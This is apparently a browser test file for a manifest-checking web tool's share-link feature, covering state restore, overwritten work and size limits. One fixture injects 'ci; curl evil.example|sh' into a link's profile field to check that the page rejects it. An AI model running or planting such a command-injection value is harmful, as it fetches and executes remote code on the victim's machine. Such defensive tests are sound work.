// Links: what they hold, what they may not do, and what becomes of the work that they replace.
import assert from "node:assert/strict";
import { test } from "node:test";

import { copied, drop, openExample, settled, sharedLink, show, site, write } from "./browser.js";
import { source } from "./source.js";

const it = site();
const load = source();

const state = { manifests: [{ source: "linked.yaml", text: "kind: Pod\n# linked\n" }], profiles: [], settings: "", policies: [] };

async function link(more = {}) {
  const { toFragment } = await load("state/share.ts");
  return toFragment({ ...state, ...more });
}

test("a link restores everything", async () => {
  let link = "";
  let report = "";
  await it.visit(async (page) => {
    await openExample(page, "A volume behind a claim");
    await show(page, "Settings");
    await write(page, "podgate.yaml", "policies:\n  CI105:\n    mode: audit # ä €\n");
    await settled(page);
    link = await sharedLink(page);
    await page.getByRole("button", { name: "Copy the link" }).click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);
    report = await copied(page, "Report as JSON");
  });
  await it.visit(
    async (page) => {
      assert.equal(await copied(page, "Report as JSON"), report);
      await page.waitForSelector(".tabs [aria-current] >> text=Settings");
      await page.waitForSelector("text=# ä €");
    },
    { hash: new URL(link).hash },
  );
});

test("a link opens the view and the file that it was made in", async () => {
  const manifests = [...state.manifests, { source: "second.yaml", text: "# second\n" }];
  await it.visit(
    async (page) => {
      await page.waitForSelector(".cm-line >> text=# second");
      await show(page, "Policies");
      await page.waitForSelector("h2 >> text=CI105");
    },
    { hash: await link({ manifests, shown: 1, selected: { id: "CI105" } }) },
  );
});

for (const [name, hash] of Object.entries({
  "a damaged link": "#1.AAAA",
  "a link of another version": "#2.abcdef",
  "a link that brings a command": await link({ profiles: ["ci; curl evil.example|sh\n"] }),
})) {
  test(`${name} is said, and the page works`, async () => {
    await it.visit(
      async (page) => {
        await page.waitForSelector(".notice >> text=This link cannot be read");
        await page.waitForSelector(".files .current >> text=docker-socket.yaml");
        assert.equal(await copied(page, "Command line"), "podgate check docker-socket.yaml");
      },
      { hash },
    );
  });
}

test("a link that is opened over somebody's work gives it back", async () => {
  await it.visit(async (page) => {
    await write(page, "File docker-socket.yaml", "kind: Pod\n# mine\n");
    await settled(page);
    const fragment = await link();
    await page.evaluate((hash) => { location.hash = hash; }, fragment);
    await page.waitForSelector(".cm-line >> text=# linked");
    assert.equal(await page.evaluate(() => location.hash), fragment);
    await page.getByRole("button", { name: "Go back to it" }).click();
    await page.waitForSelector(".cm-line >> text=# mine");
    assert.equal(await page.evaluate(() => location.hash), "");
  });
});

test("whatever of somebody's work makes room for something else can be had back", async () => {
  await it.visit(async (page) => {
    const back = () => page.getByRole("button", { name: "Go back to it" }).click();
    // Nothing is lost with an example that nobody touched.
    await openExample(page, "A volume behind a claim");
    await openExample(page, "The Docker socket");
    assert.equal(await page.locator(".notice").count(), 0);
    await show(page, "Policies");
    await page.getByRole("button", { name: "A policy with tests" }).click();
    await show(page, "Settings");
    await write(page, "podgate.yaml", "# my settings\n");
    await settled(page);
    await page.evaluate((hash) => { location.hash = hash; }, await link());
    await page.waitForSelector(".notice >> text=The link took the place of what was here");
    await back();
    await page.waitForSelector(".cm-line >> text=# my settings");
    await page.waitForSelector(".tabs [aria-current] >> text=Settings");
    await show(page, "Policies");
    await page.getByRole("button", { name: "Remove our_registry.rego", exact: true }).click();
    await back();
    await page.getByRole("button", { name: "our_registry.rego", exact: true }).waitFor();
    await show(page, "Check");
    await page.waitForSelector(".story");
    for (const replace of [() => page.getByRole("button", { name: "Clear" }).click(), () => openExample(page, "A volume behind a claim")]) {
      await write(page, "File docker-socket.yaml", "# mine\n");
      await replace();
      await back();
      await page.waitForSelector(".cm-line >> text=# mine");
    }
  });
});

test("what no link can hold is said, and no link is made", async () => {
  await it.visit(async (page) => {
    await write(page, "File docker-socket.yaml", "# mine\n");
    await drop(page, { "big.yaml": `# ${"x".repeat(9e6)}` });
    await page.getByRole("button", { name: "Share", exact: true }).click();
    await page.waitForSelector(".notice >> text=This is too large for a link, which holds at most 8 MB. Export the files instead.");
    assert.equal(await page.evaluate(() => location.hash), "");
  });
});

test("another fragment changes nothing, and the way past the gallery leads to the view", async () => {
  await it.visit(async (page) => {
    await show(page, "Settings");
    await page.evaluate(() => { location.hash = "#elsewhere"; });
    await page.evaluate(() => document.activeElement?.blur());
    await page.waitForSelector(".tabs [aria-current] >> text=Settings");
    assert.equal(await page.evaluate(() => location.hash), "#elsewhere");
    await page.getByRole("button", { name: "Skip to the view" }).focus();
    await page.keyboard.press("Enter");
    assert.equal(await page.evaluate(() => document.activeElement.id), "main");
  });
});

test("what is too large to be kept is not replaced by what was there before", async () => {
  await it.visit(async (page) => {
    await write(page, "File docker-socket.yaml", "# small\n");
    await page.waitForFunction(() => sessionStorage.getItem("podgate")?.includes("# small"));
    await drop(page, { "big.yaml": `# ${"x".repeat(6e6)}` });
    await page.waitForFunction(() => sessionStorage.getItem("podgate") === null);
  });
});
